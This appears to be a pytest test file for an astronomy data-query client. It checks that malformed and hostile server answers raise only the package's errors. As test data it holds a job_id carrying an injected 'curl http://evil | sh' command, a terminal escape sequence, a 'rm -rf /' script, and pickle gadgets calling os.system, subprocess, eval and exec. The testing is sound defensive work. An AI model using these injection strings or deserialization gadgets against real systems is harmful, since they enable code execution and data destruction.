"""Hostile answers to run_analysis: only the package's exceptions escape, nothing executes.

A `FaultProxy` whose upstream never answers serves each hostile body (its
``replace`` mode); the client asks for a product through it as usual.
"""
import base64
import json
import os
import pickle
import re
import subprocess
import warnings

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from astroquery_mmoda import conf
from astroquery_mmoda.core import MmodaClass
from astroquery_mmoda.exceptions import (InvalidQueryError, JobFailedError, LoginError,
                                         MmodaServiceError, ProtocolError, TimeoutError)
from astroquery_mmoda.products import ProductSet
from astroquery_mmoda.testing.fault_proxy import FaultProxy

# What may come out of a query: a result, or one of these.
PACKAGE_ERRORS = (MmodaServiceError, InvalidQueryError, LoginError, TimeoutError)
SESSION_ID = "ABCDEFGHIJKLMNOP"
JOB_ID = "0123456789abcdef"

pytestmark = pytest.mark.usefixtures("cache_on")


@pytest.fixture(scope="module")
def proxy():
    # Nothing listens on the discard port: every answer comes from the plan.
    with FaultProxy("http://127.0.0.1:9") as proxy:
        yield proxy


@pytest.fixture(scope="module")
def client(proxy, tmp_path_factory):
    client = MmodaClass(server=proxy.url)
    client.cache_location = tmp_path_factory.mktemp("hostile-cache")
    return client


@pytest.fixture(autouse=True)
def bounded(proxy):
    """Short timeouts and polls, no retries: a test that goes wrong ends quickly."""
    proxy.clear()
    with conf.set_temp("max_retries", 0), conf.set_temp("timeout", 10.0), \
            conf.set_temp("poll_interval", 0.02), conf.set_temp("poll_max", 0.05):
        yield
    proxy.clear()


def envelope(products=None, **fields):
    body = {"query_status": "done", "job_status": "done", "session_id": SESSION_ID,
            "exit_status": {"status": 0, "message": "", "error_message": "", "debug_message": "",
                            "comment": "", "warning": ""},
            "job_monitor": {"job_id": JOB_ID, "session_id": SESSION_ID, "status": "done"},
            "products": products if products is not None else {}}
    body.update(fields)
    return body


def unit(binarys, *, hdu_type="image", name="IMAGE", dt="float64", **extra):
    return dict({"name": name, "hdu_type": hdu_type, "header": {}, "meta_data": {},
                 "units_dict": None, "dt": dt, "binarys": binarys, "data": None}, **extra)


def numpy_product(*units):
    return {"numpy_data_product_list": [
        {"name": "hostile", "meta_data": "{}", "data_unit_list": list(units)}]}


def b64_pickle(obj, protocol=4):
    return base64.b64encode(pickle.dumps(obj, protocol=protocol)).decode()


def query(client, *, cache=False, timeout=5):
    """One product request as a user makes it; warnings are collected, not raised."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        try:
            result = client.get_product("empty", "numerical", query_type="Dummy", validate=False,
                                        cache=cache, timeout=timeout)
        except PACKAGE_ERRORS as exc:
            result = exc
    return result, caught


def serve(proxy, body, *, status=200, content_type="application/json", times=None):
    if isinstance(body, dict):
        body = json.dumps(body, allow_nan=True)
    proxy.replace(body, status=status, content_type=content_type, times=times,
                  path="run_analysis")


# -- malformed envelopes ---------------------------------------------------------------

HUGE = "A" * 20_000_000

MALFORMED = [
    ("html", b"<html><body>Internal error</body></html>", ProtocolError, "not valid JSON"),
    ("empty-body", b"", ProtocolError, "not valid JSON"),
    ("truncated", json.dumps(envelope())[:-40].encode(), ProtocolError, "not valid JSON"),
    ("binary-garbage", bytes(range(256)) * 4, ProtocolError, "not valid JSON"),
    ("not-utf8", b'{"query_status": "\xff\xfe"}', ProtocolError, "not valid JSON"),
    ("deep-nesting", b"[" * 200_000 + b"]" * 200_000, ProtocolError, "not valid JSON|JSON list"),
    ("array", b"[1, 2, 3]", ProtocolError, "not an object"),
    ("string", b'"done"', ProtocolError, "not an object"),
    ("no-status", json.dumps({"products": {}}).encode(), ProtocolError, "no query_status"),
    ("status-number", envelope(query_status=5), ProtocolError, "no query_status"),
    ("status-nan", envelope(query_status=float("nan")), ProtocolError, "no query_status"),
    ("exit-status-string", envelope(exit_status="ok"), ProtocolError, "wrong type"),
    ("exit-code-string", envelope(exit_status={"status": "0"}), ProtocolError, "not a number"),
    ("exit-code-bool", envelope(exit_status={"status": False}), ProtocolError, "not a number"),
    ("monitor-list", envelope(job_monitor=[JOB_ID]), ProtocolError, "wrong type"),
    ("job-id-number", envelope(job_monitor={"job_id": 17}), ProtocolError, "not a string"),
    ("job-id-shell", envelope(job_monitor={"job_id": "x; curl http://evil | sh #",
                                           "session_id": SESSION_ID}), ProtocolError, "malformed job_id"),
    ("job-id-escape", envelope(job_monitor={"job_id": "\x1b]0;owned\x07" + JOB_ID}), ProtocolError,
     "malformed job_id"),
    ("session-id-newline", envelope(job_monitor={"job_id": JOB_ID, "session_id": "S\nmmoda: done"}),
     ProtocolError, "malformed session_id"),
    ("session-id-huge", envelope(job_monitor={"job_id": JOB_ID, "session_id": "A" * 100_000}),
     ProtocolError, "malformed session_id"),
    ("products-list", envelope(products=[1, 2]), ProtocolError, "wrong type"),
    ("product-list-not-list", envelope(products={"numpy_data_product_list": 3}), ProtocolError,
     "not a list"),
    ("exit-code-nan", envelope(exit_status={"status": float("nan")}), JobFailedError, "failed"),
]


@pytest.mark.parametrize("name, body, error, match", MALFORMED, ids=[row[0] for row in MALFORMED])
def test_malformed_answer(client, proxy, name, body, error, match):
    serve(proxy, body)
    result, _ = query(client)
    assert isinstance(result, error), result
    assert re.search(match, str(result)), str(result)
    assert len(str(result)) < 2000
    assert "curl" not in str(result) and "\x1b" not in str(result)


@pytest.mark.parametrize("field", ["message", "error_message", "debug_message"])
def test_huge_failure_message_is_bounded(client, proxy, field):
    body = envelope(query_status="failed", exit_status={"status": 1, field: HUGE})
    serve(proxy, json.dumps(body).encode())
    result, _ = query(client)
    assert isinstance(result, JobFailedError)
    assert len(str(result)) < 100_000
    assert len(result.debug_message) < 100_000


def test_huge_comment_warning_is_bounded(client, proxy):
    body = envelope(exit_status={"status": 0, "comment": HUGE})
    serve(proxy, json.dumps(body).encode())
    result, caught = query(client)
    assert isinstance(result, ProductSet)
    assert all(len(str(w.message)) < 100_000 for w in caught)


def test_huge_unknown_status_times_out_with_a_bounded_message(client, proxy):
    serve(proxy, envelope(query_status="x" * 5_000_000))
    result, _ = query(client, timeout=0.2)
    assert isinstance(result, PACKAGE_ERRORS)
    assert len(str(result)) < 100_000


def test_gateway_html_error(client, proxy):
    serve(proxy, b"<html><h1>502 Bad Gateway</h1></html>", status=502, content_type="text/html")
    result, _ = query(client)
    assert isinstance(result, MmodaServiceError) and "502" in str(result)
    assert "<html" not in str(result)


def test_redirect_is_not_followed(client, proxy):
    proxy.replace(b"", status=302, headers={"Location": "http://127.0.0.1:9/elsewhere"},
                  times=None, path="run_analysis")
    result, _ = query(client)
    assert isinstance(result, MmodaServiceError) and "moved" in str(result)
    assert proxy.count(path="elsewhere") == 0


# -- hostile products --------------------------------------------------------------------

class Gadget:
    """Pickles as a call of ``func(*args)``."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


class HiddenGadget:
    """A numpy reconstruction whose arguments hide a gadget."""

    def __init__(self, gadget):
        self.gadget = gadget

    def __reduce__(self):
        from numpy.core.multiarray import _reconstruct
        return _reconstruct, (self.gadget, (0,), b"b")


def gadgets(marker):
    """Pickles that would create ``marker`` if they were loaded with pickle.loads."""
    path = str(marker)
    yield "open", pickle.dumps(Gadget(open, path, "w"))
    yield "os.system", pickle.dumps(Gadget(os.system, f"touch {path}"))
    yield "subprocess", pickle.dumps(Gadget(subprocess.call, ["touch", path]))
    yield "eval", pickle.dumps(Gadget(eval, f"open({path!r}, 'w')"))
    yield "exec-protocol-0", (b"c__builtin__\nexec\n(V" + f"open({path!r}, 'w')".encode()
                              + b"\ntR.")
    yield "hidden-in-ndarray", pickle.dumps(HiddenGadget(Gadget(open, path, "w")))
    yield "in-a-list", pickle.dumps([np.arange(3.0), Gadget(open, path, "w")])
    yield "np-load", pickle.dumps(Gadget(np.load, path + ".npy", True))


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_pickle_gadgets_never_run(client, proxy, tmp_path):
    marker = tmp_path / "pwned"
    (tmp_path / "pwned.npy").write_bytes(b"\x93NUMPY")  # np.load would at least open it
    for name, data in gadgets(marker):
        # the same payload proves harmful with the standard unpickler
        serve(proxy, envelope(numpy_product(unit(base64.b64encode(data).decode()))))
        result, _ = query(client)
        assert isinstance(result, ProtocolError), (name, result)
        assert "unpickle" in str(result) or "pickle" in str(result), (name, result)
        assert not marker.exists(), name
        proxy.clear()


def test_the_gadgets_are_real(tmp_path):
    """Control: the standard unpickler does run them (so the test above proves something)."""
    marker = tmp_path / "pwned"
    name, data = next(gadgets(marker))
    handle = pickle.loads(data)
    handle.close()
    assert marker.exists()


BAD_PRODUCTS = [
    ("base64-garbage", numpy_product(unit("!!! not base64 !!!")), "base64"),
    ("base64-truncated", numpy_product(unit(b64_pickle(np.arange(10.0))[:-3])), "base64"),
    ("base64-number", numpy_product(unit(12345)), "base64"),
    ("pickle-garbage", numpy_product(unit(base64.b64encode(b"\x80\x04garbage").decode())),
     "pickle"),
    ("pickle-not-array", numpy_product(unit(b64_pickle({"a": 1}))), "not an array"),
    ("bad-hdu-type", numpy_product(unit(b64_pickle(np.arange(4.0)), hdu_type="exec")),
     "hdu_type"),
    ("table-data-in-image", numpy_product(unit(b64_pickle(np.zeros(3, dtype=[("a", "f8")])))),
     "table"),
    ("units-not-dict", numpy_product(unit(b64_pickle(np.zeros(3, dtype=[("a", "f8")])),
                                          hdu_type="bintable", units_dict=["a"])), "units_dict"),
    ("no-unit-list", {"numpy_data_product_list": [{"name": "x", "meta_data": "{}"}]},
     "data_unit_list"),
    ("md5-mismatch", {"binary_data_product_list": [
        {"name": "file", "data": base64.urlsafe_b64encode(b"hello").decode(), "md5": "0" * 32}]},
     "md5"),
    ("md5-not-string", {"binary_data_product_list": [
        {"name": "file", "data": base64.urlsafe_b64encode(b"hello").decode(), "md5": 5}]}, "md5"),
    ("binary-not-base64", {"binary_data_product_list": ["%%%%"]}, "base64"),
    ("picture-not-image", {"binary_image_product_list": [
        {"b64data": base64.b64encode(b"#!/bin/sh\nrm -rf /\n").decode(), "img_type": "png"}]},
     "not an image"),
    ("table-binary-pickle", {"astropy_table_product_binary_list": [
        {"name": "t", "binary": b64_pickle(Gadget(os.system, "true")), "meta_data": "{}"}]},
     "unsupported"),
    ("table-not-ecsv", {"astropy_table_product_ascii_list": [{"name": "t", "ascii": "a b\n1"}]},
     "ECSV"),
    ("catalog-wrong-type", {"catalog": {"cat_column_list": 5, "cat_column_names": "x"}}, ""),
]


@pytest.mark.parametrize("name, products, match", BAD_PRODUCTS, ids=[row[0] for row in BAD_PRODUCTS])
def test_undecodable_product(client, proxy, name, products, match):
    serve(proxy, envelope(products))
    result, _ = query(client)
    assert isinstance(result, ProtocolError), result
    assert match.lower() in str(result).lower()
    assert len(str(result)) < 2000


def test_nan_and_infinity_are_data_not_errors(client, proxy):
    image = np.array([[np.nan, np.inf], [-np.inf, 1.0]])
    products = dict(numpy_product(unit(b64_pickle(image))),
                    analysis_parameters={"p": float("nan"), "q": float("inf")})
    serve(proxy, envelope(products, time_request=float("nan")))
    result, _ = query(client)
    assert isinstance(result, ProductSet)
    (hdul,) = result.values()
    np.testing.assert_array_equal(hdul[0].data, image)


def test_an_undecodable_answer_is_not_served_from_the_cache(client, proxy):
    client.clear_cache()
    serve(proxy, envelope(numpy_product(unit("!!! not base64 !!!"))), times=1)
    first, _ = query(client, cache=True)
    assert isinstance(first, ProtocolError)
    serve(proxy, envelope(numpy_product(unit(b64_pickle(np.arange(4.0))))), times=1)
    second, _ = query(client, cache=True)
    assert isinstance(second, ProductSet), second
    client.clear_cache()


# -- generated structures ----------------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers(-2 ** 70, 2 ** 70)
    | st.floats(allow_nan=True, allow_infinity=True) | st.text(max_size=12),
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(st.text(max_size=8), children, max_size=4),
    max_leaves=12)

good_binarys = b64_pickle(np.arange(6.0).reshape(2, 3))


@st.composite
def hostile_units(draw):
    fields = {"name": draw(json_values | st.just("IMAGE")),
              "hdu_type": draw(st.sampled_from(["primary", "image", "bintable", "table", None])
                               | json_values),
              "header": draw(json_values | st.dictionaries(st.text(max_size=10), json_values,
                                                           max_size=5)),
              "binarys": draw(st.sampled_from([good_binarys, None]) | json_values),
              "units_dict": draw(json_values), "meta_data": draw(json_values),
              "dt": draw(json_values), "data": draw(st.none() | json_values)}
    return {key: value for key, value in fields.items() if draw(st.booleans()) or key == "binarys"}


@st.composite
def hostile_products(draw):
    products = {}
    if draw(st.booleans()):
        products["numpy_data_product_list"] = [
            {"name": draw(json_values), "meta_data": draw(json_values),
             "data_unit_list": draw(st.lists(hostile_units(), max_size=3) | json_values)}]
    if draw(st.booleans()):
        products["binary_data_product_list"] = draw(st.lists(
            st.fixed_dictionaries({"name": json_values, "data": st.text(max_size=12) | json_values,
                                   "md5": json_values}) | json_values, max_size=2))
    if draw(st.booleans()):
        products["catalog"] = draw(st.fixed_dictionaries(
            {"cat_column_list": json_values, "cat_column_names": json_values,
             "cat_column_descr": json_values, "cat_frame": json_values}) | json_values)
    for key in ("text_product_list", "astropy_table_product_ascii_list", "analysis_parameters",
                "binary_image_product_list"):
        if draw(st.booleans()):
            products[key] = draw(json_values)
    return products


def check_answer(client, proxy, body):
    proxy.clear()
    serve(proxy, body)
    result, _ = query(client, timeout=0.1)
    assert isinstance(result, (ProductSet,) + PACKAGE_ERRORS), repr(result)
    return result


@settings(max_examples=60, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(products=hostile_products())
def test_generated_products_raise_only_package_errors(client, proxy, products):
    check_answer(client, proxy, envelope(products))


@settings(max_examples=40, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(query_status=st.sampled_from(["done", "failed"]) | json_values,
       exit_status=json_values | st.fixed_dictionaries({"status": json_values,
                                                        "message": json_values,
                                                        "comment": json_values}),
       job_monitor=json_values | st.fixed_dictionaries({"job_id": json_values,
                                                        "session_id": json_values,
                                                        "full_report_dict_list": json_values}))
def test_generated_envelopes_raise_only_package_errors(client, proxy, query_status, exit_status,
                                                       job_monitor):
    body = envelope(query_status=query_status, exit_status=exit_status, job_monitor=job_monitor)
    check_answer(client, proxy, body)


def test_http_500_carries_the_reason_of_exit_status(client, proxy):
    body = envelope(query_status="failed", exit_status={
        "status": 1, "message": "Error when getting query products",
        "error_message": "The support team has been notified",
        "debug_message": "IsgriAnalysisException('catalog has no sources in the field')"})
    serve(proxy, body, status=500)
    result, _ = query(client)
    assert isinstance(result, MmodaServiceError) and result.status_code == 500
    assert "IsgriAnalysisException('catalog has no sources in the field')" in str(result)
    assert "support team" not in str(result)
    assert result.debug_message == "IsgriAnalysisException('catalog has no sources in the field')"
